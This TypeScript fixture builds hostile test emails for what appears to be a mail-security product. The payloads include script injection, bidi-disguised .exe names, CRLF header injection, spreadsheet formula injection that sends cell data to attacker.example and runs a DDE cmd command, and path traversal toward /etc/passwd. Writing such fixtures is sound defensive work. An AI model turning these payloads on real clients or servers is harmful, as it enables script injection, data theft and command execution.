/** Mail by somebody who wants to break whatever shows it. Each comes twice: held by the vendor (even number), and delivered (odd). */
import type { Cast, Made } from "./message";

export type Hostile = {
  name: string;
  subject: string;
  fromName: string;
  /** What follows `gen-{number}@` in the Message-ID. */
  idTail?: string;
  link?: string;
  attachment?: string;
};

/** Right-to-left override, isolates and marks: what is shown is not what is there. */
const bidi = { override: "\u202e", pop: "\u202c", isolate: "\u2067", mark: "\u200f" } as const;

export const hostileKinds: readonly Hostile[] = [
  {
    name: "script",
    subject: `<script>alert("subject")</script><img src=x onerror=alert(1)>`,
    fromName: `"><svg onload=alert("name")>`,
    link: "javascript:alert(1)",
  },
  { name: "html-bomb", subject: "A hundred thousand boxes in boxes", fromName: "Box maker" },
  { name: "big-attachment", subject: "Forty megabytes", fromName: "Heavy sender", attachment: "forty-megabytes.bin" },
  { name: "broken-mime", subject: "Parts that never end", fromName: "Broken client", attachment: "half.zip" },
  {
    name: "bidi",
    subject: `Invoice ${bidi.override}fdp.exe${bidi.pop} ${bidi.isolate}paid${bidi.mark}`,
    fromName: `${bidi.override}troppuS${bidi.pop} desk${bidi.mark}`,
    attachment: `photo${bidi.override}gnp.exe`,
  },
  { name: "long-subject", subject: "Long ".repeat(20_000), fromName: "Somebody with much to say" },
  {
    name: "null-bytes",
    subject: "Nothing\u0000in\u0000here\u0007\u001b[31m red\r\nBcc: everybody@attacker.example",
    fromName: "Null\u0000byte",
  },
  { name: "lone-surrogate", subject: "Half a sign: \ud83d and \udc00", fromName: "Half\udfff" },
  { name: "message-id", subject: "An id with quotes and slashes", fromName: "Id maker", idTail: `it's/"quoted"\\..%2f..?a=b&c#d.example` },
  { name: "formula", subject: `=HYPERLINK("https://attacker.example/?"&A1,"Total")`, fromName: "@SUM(1+1)*cmd|' /C calc'!A0" },
  {
    name: "remote-content",
    subject: "Pictures that tell on you",
    fromName: "Tracker",
    link: "data:text/html,<script>alert(1)</script>",
  },
  {
    name: "file-name",
    subject: `../../report"; filename="page.html`,
    fromName: "Path finder",
    attachment: `..\\..\\../../etc/passwd";x="y.html`,
  },
];

export const hostileCount = hostileKinds.length * 2;

const first: Hostile = { name: "plain", subject: "", fromName: "" };
export const hostileOf = (number: number): Hostile => hostileKinds[Math.floor(number / 2) % hostileKinds.length] ?? first;

export function hostileMessage({ people }: Cast, number: number): Made {
  const { subject, fromName, idTail, link, attachment } = hostileOf(number);
  const isHeld = number % 2 === 0;
  const from = "sender@attacker.example";
  return {
    ...{ messageId: `<gen-${number}@${idTail ?? "attacker.example"}>`, mailFrom: from, from, fromName, subject },
    recipients: people.slice(0, 2),
    disposition: "MALICIOUS",
    mode: isHeld ? "DIRECT" : "JOURNAL",
    isHeld,
    fromIp: "203.0.113.66",
    link: link ?? "https://attacker.example/login",
    attachment: attachment ?? null,
  };
}
